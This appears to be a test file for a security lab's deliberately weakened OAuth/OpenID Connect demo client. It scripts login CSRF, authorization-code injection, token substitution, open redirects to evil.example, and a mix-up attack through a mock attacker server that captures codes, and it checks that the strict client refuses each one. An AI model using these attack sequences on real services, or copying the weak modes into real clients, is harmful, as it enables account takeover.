import { describe, expect, it } from 'vitest'
import { demoWeb as registered } from '../../../src/lab/sites/demo-web.js'
import { bytes, jsonResponse, splitUrl, text } from '../../../src/protocol/http/message.js'
import type { WeakNameAt } from '../../../src/protocol/rules/weak-modes.js'
import { weakDefences } from '../../../src/servers/demo-client/weak/weak-defences.js'
import type { Ask } from '../../support/ask.js'
import { client, countedRandom, ISSUER, query, settings } from '../authorization-server/support.js'
import type { Browser } from './browser.js'
import { answerOf, demoWeb, headerOf, metadataAt, notesOf, SITE, type WorldOptions, world } from './world.js'

type Mode = WeakNameAt<'demo-client'>

/** A world whose demo client has these weak modes, registered as a lab registers it. */
function weakWorld(weak: readonly Mode[], options: WorldOptions = {}) {
  const register = registered({ random: countedRandom(), url: () => SITE, weak })
  const entry = register.client({ ...demoWeb, ...options.demoWeb })
  return world({
    ...options,
    defences: { ...weakDefences(weak), ...options.defences },
    ...(entry && { demoWeb: entry }),
  })
}

type World = ReturnType<typeof world>

/** The rules by which the demo client refused something. */
const refusals = ({ events }: World) =>
  events.flatMap(({ type, rule }) => (/^demo_client\..*refused$/.test(type) ? [rule] : []))

const SECRET_NOTE = 'the blue door, 4711'

/** A browser in which alice keeps a note. */
async function aliceWithNote(lab: World): Promise<Browser> {
  const alice = lab.browser()
  await alice.submit(await notesOf(alice), '/notes', { text: SECRET_NOTE })
  return alice
}

/** Describes the attack with the mode, and the same attack against the strict client. */
const both = (modes: readonly Mode[]): [outcome: string, modes: readonly Mode[]][] => [
  ['works', modes],
  ['is refused', []],
]

describe('no-state: login CSRF', () => {
  it.each(both(['no-state']))('%s', async (outcome, weak) => {
    const lab = weakWorld(weak)
    const stolen = await answerOf(lab.browser(), '/login', 'bob', 'builder')
    const victim = lab.browser()
    // The link that the attacker sends.
    const page = await victim.get(stolen.href)
    if (outcome === 'works') {
      const noted = await victim.submit(page, '/notes', { text: 'my secret plan' })
      expect(noted.text).toContain('Notes of bob')
      expect((await notesOf(lab.browser(), 'bob', 'builder')).body).toContain('my secret plan')
    } else {
      expect([page.status, refusals(lab)]).toEqual([400, ['RFC 6749 §10.12']])
    }
  })

  it('still logs people in, without state, nonce and PKCE in the request', async () => {
    const lab = weakWorld(['no-state'])
    const alice = lab.browser()
    const { searchParams } = new URL((await alice.get('/login')).url)
    expect(['state', 'nonce', 'code_challenge'].filter(name => searchParams.has(name))).toEqual([])
    expect((await notesOf(alice)).text).toContain('Notes of Alice')
    const started = lab.events.find(({ type }) => type === 'demo_client.login_started')
    expect(started).toMatchObject({ pkce: 'none' })
  })
})

describe('no-nonce: code injection', () => {
  /** Puts a code of alice into a login of the attacker's browser. */
  async function inject(lab: World) {
    await aliceWithNote(lab)
    // The code leaked on its way, by a log or a Referer.
    const stolen = await answerOf(lab.browser(), '/login', 'alice', 'wonderland')
    const attacker = lab.browser()
    const own = await answerOf(attacker, '/login', 'bob', 'builder')
    own.searchParams.set('code', stolen.searchParams.get('code') ?? '')
    return attacker.get(own.href)
  }

  it('works', async () => {
    expect((await inject(weakWorld(['no-nonce']))).body).toContain(SECRET_NOTE)
  })

  it('is refused by PKCE', async () => {
    const lab = weakWorld([])
    expect((await inject(lab)).status).toBe(400)
    expect(lab.events.filter(({ type }) => type === 'token.refused')).toMatchObject([
      { error: 'invalid_grant', rule: 'RFC 7636 §4.6' },
    ])
  })

  it('is refused by the nonce alone', async () => {
    const lab = weakWorld([], {
      defences: { codeVerifier: () => undefined },
      demoWeb: { require_pkce: false },
    })
    const page = await inject(lab)
    expect([page.status, refusals(lab)]).toEqual([400, ['OpenID Connect Core §3.1.3.7']])
    expect(page.text).toContain('nonce')
  })
})

describe('token-in-url: an address that leaked', () => {
  it('works', async () => {
    const lab = weakWorld(['token-in-url'])
    const alice = lab.browser()
    const page = await alice.submit(await notesOf(alice), '/notes', { text: SECRET_NOTE })
    expect(page.url).toMatch(/^https:\/\/localhost:8448\/notes\?access_token=ey/)
    const attacker = lab.browser()
    expect((await attacker.get(page.url)).body).toContain(SECRET_NOTE)
    // The forms carry the token on.
    const out = await alice.submit(page, '/logout')
    expect(out.url).toBe(`${SITE}/logged-out`)
    expect((await attacker.get(page.url)).body).not.toContain(SECRET_NOTE)
  })

  it('is refused', async () => {
    const lab = weakWorld([])
    const alice = await aliceWithNote(lab)
    const page = await lab.browser().get((await alice.get('/notes')).url)
    expect(page.body).not.toContain(SECRET_NOTE)
    const token = await lab.browser().get('/notes?access_token=eyJ')
    expect([token.status, refusals(lab)]).toEqual([400, ['RFC 9700 §4.3.2']])
  })
})

const claims = { name: 'Mallory', email: 'alice@example.com', email_verified: false }
const users = [...settings.users, { username: 'mallory', password: 'x', claims }]

it.each(both(['email-is-identity']))(
  'email-is-identity: an account with the same address: %s',
  async (outcome, weak) => {
    const lab = weakWorld(weak, { server: { users } })
    await aliceWithNote(lab)
    const page = await notesOf(lab.browser(), 'mallory', 'x')
    expect([page.status, page.body.includes(SECRET_NOTE)]).toEqual([200, outcome === 'works'])
  },
)

describe('implicit-login: token substitution', () => {
  const evil = client('evil-app', {
    grant_types: ['implicit'],
    response_types: ['token'],
    redirect_uris: ['https://evil.example/callback'],
  })
  const server = { clients: [...settings.clients, evil] }

  /** Logs alice in at the attacker's client, and returns her access token. */
  async function tokenOfAlice(lab: World): Promise<string> {
    const redirect_uri = 'https://evil.example/callback'
    const own = { client_id: 'evil-app', redirect_uri, scope: 'openid profile', state: 'x' }
    const asked = query({ response_type: 'token', ...own })
    const landed = await answerOf(lab.browser(), `${ISSUER}/authorization?${asked}`, 'alice', 'wonderland')
    return new URLSearchParams(landed.hash.slice(1)).get('access_token') ?? ''
  }

  it.each(both(['implicit-login']))('%s', async (outcome, weak) => {
    const lab = weakWorld(weak, { server })
    // Alice logs in by the grant that this client uses.
    const started = await answerOf(lab.browser(), '/login', 'alice', 'wonderland')
    expect(started.hash === '' ? 'code' : 'token').toBe(outcome === 'works' ? 'token' : 'code')
    const token = await tokenOfAlice(lab)
    expect(token).not.toBe('')
    const attacker = lab.browser()
    const { searchParams } = new URL((await attacker.get('/login')).url)
    const page = await attacker.post('/callback', {
      access_token: token,
      token_type: 'Bearer',
      expires_in: '3600',
      state: searchParams.get('state') ?? '',
      iss: ISSUER,
    })
    if (outcome === 'works') expect(page.text).toContain('Notes of Alice')
    else expect([page.status, refusals(lab)]).toEqual([400, ['RFC 6749 §10.16']])
  })

  it('still logs people in, by a page whose script posts the fragment', async () => {
    const lab = weakWorld(['implicit-login'])
    const alice = lab.browser()
    const landed = await answerOf(alice, '/login', 'alice', 'wonderland')
    const relay = await alice.get(landed.href.split('#')[0] ?? '')
    expect(headerOf(relay, 'content-security-policy')).toMatch(/script-src 'sha256-/)
    expect(relay.body).toContain('location.hash')
    const fields = Object.fromEntries(new URLSearchParams(landed.hash.slice(1)))
    const page = await alice.post(`${SITE}/callback`, fields)
    expect(page.text).toContain('Notes of Alice')
    // Nothing to post: no page that posts itself for ever.
    expect((await alice.post(`${SITE}/callback`, {})).status).toBe(400)
  })
})

it.each(both(['open-redirect']))('open-redirect: %s', async (outcome, weak) => {
  const lab = weakWorld(weak)
  const page = await lab.browser().get('/login?return_to=https%3A%2F%2Fevil.example%2F')
  if (outcome === 'works') {
    const alice = lab.browser()
    const first = await alice.get('/login?return_to=https%3A%2F%2Fevil.example%2F%3Fa%3D1')
    expect((await alice.logIn(first, 'alice', 'wonderland')).url).toBe('https://evil.example/?a=1')
    // A code that came by a wrong redirect address travels on.
    const stolen = await alice.get('/login?return_to=https%3A%2F%2Fevil.example%2F&code=abc&state=x')
    expect(stolen.url).toBe('https://evil.example/?code=abc&state=x')
    expect((await lab.browser().get('/login?return_to=javascript%3Aalert(1)')).status).toBe(400)
  } else {
    expect([page.status, refusals(lab)]).toEqual([400, ['RFC 9700 §4.11.1']])
  }
})

describe('mix-up', () => {
  const EVIL = {
    issuer: 'https://evil.example',
    key: 'evil',
    clientId: 'x',
    clientSecret: 'y',
    auth: 'client_secret_post',
  } as const

  /** An authorization server of the attacker, which sends browsers on to the honest one. */
  function evil(caught: URLSearchParams[], own: () => URLSearchParams): Ask {
    return async request => {
      const { path, query } = splitUrl(request.url)
      if (path === '/authorize') {
        const asked = new URLSearchParams(query)
        // The challenge and the nonce of the attacker's own login, so that the code fits there.
        const changes = { client_id: 'demo-web', redirect_uri: `${SITE}/callback` }
        for (const [name, value] of Object.entries(changes)) asked.set(name, value)
        for (const name of ['code_challenge', 'nonce']) asked.set(name, own().get(name) ?? '')
        return { status: 302, headers: [['location', `${ISSUER}/authorization?${asked}`]], body: bytes('') }
      }
      if (path === '/token') {
        caught.push(new URLSearchParams(text(request.body)))
        return jsonResponse(400, { error: 'invalid_grant' })
      }
      if (path !== '/.well-known/openid-configuration') return { status: 404, headers: [], body: bytes('') }
      return jsonResponse(200, metadataAt(EVIL.issuer))
    }
  }

  it.each(both(['mix-up']))('%s', async (outcome, weak) => {
    const caught: URLSearchParams[] = []
    let own = new URLSearchParams()
    const lab = weakWorld(weak, { issuers: [EVIL], sites: { [EVIL.issuer]: evil(caught, () => own) } })
    await aliceWithNote(lab)
    const attacker = lab.browser()
    own = new URL((await attacker.get('/login')).url).searchParams
    const alice = lab.browser()
    await alice.logIn(await alice.get('/login?issuer=evil'), 'alice', 'wonderland')
    if (outcome === 'works') {
      const code = caught[0]?.get('code') ?? ''
      const answer = query({ code, state: own.get('state') ?? '', iss: ISSUER })
      const page = await attacker.get(`/callback?${answer}`)
      expect(page.body).toContain(SECRET_NOTE)
    } else {
      expect([caught, refusals(lab)]).toEqual([[], ['RFC 9207 §2.4']])
    }
  })

  it('is refused by the redirect address alone, of a server that sends no iss', async () => {
    const caught: URLSearchParams[] = []
    let own = new URLSearchParams()
    const lab = weakWorld([], {
      issuers: [EVIL],
      sites: { [EVIL.issuer]: evil(caught, () => own) },
      defences: { expected: request => ({ ...request, issuer: ISSUER }) },
    })
    own = new URL((await lab.browser().get('/login')).url).searchParams
    const alice = lab.browser()
    await alice.logIn(await alice.get('/login?issuer=evil'), 'alice', 'wonderland')
    expect([caught, refusals(lab)]).toEqual([[], ['RFC 9700 §4.4.2.2']])
  })
})

it('weak modes work together, and log people in still', async () => {
  const all: readonly Mode[] = [
    'no-state',
    'no-nonce',
    'token-in-url',
    'email-is-identity',
    'open-redirect',
    'mix-up',
  ]
  expect((await notesOf(weakWorld(all).browser())).text).toContain('Notes of Alice')
})
